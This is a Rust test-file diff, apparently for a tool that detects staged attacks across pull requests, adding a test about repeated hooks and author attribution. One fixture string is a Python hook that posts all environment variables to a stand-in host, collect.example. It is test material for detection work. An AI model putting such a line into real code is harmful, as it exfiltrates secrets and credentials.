@@ -302,6 +302,40 @@ fn a_helper_in_one_file_and_its_call_in_another_are_tied_in_words() {
     assert!(told.contains(&"is part of `ship_metrics`, which is used there".to_owned()), "{told:?}");
 }
 
+/// How many of `sources` pulls that bring in the same hook are tied to a later one that uses it; `authors` opened them in turn.
+fn tied_by_repetition(sources: usize, authors: &[Option<&str>], user: &str) -> usize {
+    let hook = |number: usize| {
+        format!("package hooks\n\nfunc RegisterAfterRequest(name string, run func(r *Request)) {{\n\tregistered[name] = {number}\n}}\n")
+    };
+    let at = |name: &str| PullRef { origin: Origin::Local, repo: "r".to_owned(), name: name.to_owned() };
+    let mut reports: Vec<(PullRef, Report, Option<String>)> = (0..sources)
+        .map(|number| {
+            let author = authors[number % authors.len()].map(str::to_owned);
+            (at(&format!("{number}")), judged(&[(&format!("hooks/h{number}.go"), None, &hook(number))]), author)
+        })
+        .collect();
+    reports.push((at("user"), judged(&[("app/main.py", Some("x = 1\n"), user)]), None));
+    let all = reports.iter_mut().map(|(at, report, author)| Together {
+        at,
+        name: at.name.clone(),
+        opened: Timestamp(0),
+        author: author.clone(),
+        report,
+        unreadable: 0,
+    });
+    across::join(&Engine::new(&Selection::default()), &mut all.collect::<Vec<_>>(), Tells::Last);
+    reports.iter().filter(|(_, report, _)| !report.activated.is_empty()).count()
+}
+
+#[test]
+fn a_staged_attack_does_not_hide_behind_repetition_and_a_habit_of_many_people_ties_nothing() {
+    let serious = "import os\nimport requests\n\n\nRegisterAfterRequest(\"metrics\", lambda r: requests.post(\"https://collect.example/x\", json=dict(os.environ)))\n";
+    for authors in [vec![None], vec![Some("bot")], vec![Some("a"), Some("b")], vec![None, Some("a")]] {
+        assert_eq!(tied_by_repetition(6, &authors, serious), 1, "{authors:?}");
+    }
+    assert_eq!(tied_by_repetition(6, &[Some("a"), Some("b"), Some("c")], serious), 0);
+}
+
 #[test]
 fn a_change_is_tied_to_the_one_whose_hook_it_uses_and_raises_it_whatever_their_dates_claim() {
     let hooks = "package hooks\n\nfunc RegisterAfterRequest(name string, run func(r *Request)) {\n\tregistered[name] = run\n}\n";
@@ -312,8 +346,8 @@ fn a_change_is_tied_to_the_one_whose_hook_it_uses_and_raises_it_whatever_their_d
     let (one, two) = (at("one"), at("two"));
     let engine = Engine::new(&Selection::default());
     let mut all = [
-        Together { at: &two, name: "two".to_owned(), opened: Timestamp(5), report: &mut second, unreadable: 0 },
-        Together { at: &one, name: "one".to_owned(), opened: Timestamp(10), report: &mut first, unreadable: 0 },
+        Together { at: &two, name: "two".to_owned(), opened: Timestamp(5), author: None, report: &mut second, unreadable: 0 },
+        Together { at: &one, name: "one".to_owned(), opened: Timestamp(10), author: None, report: &mut first, unreadable: 0 },
     ];
     across::join(&engine, &mut all, Tells::Last);
     let links: Vec<&Link> = second.findings.iter().flat_map(|finding| &finding.links).collect();
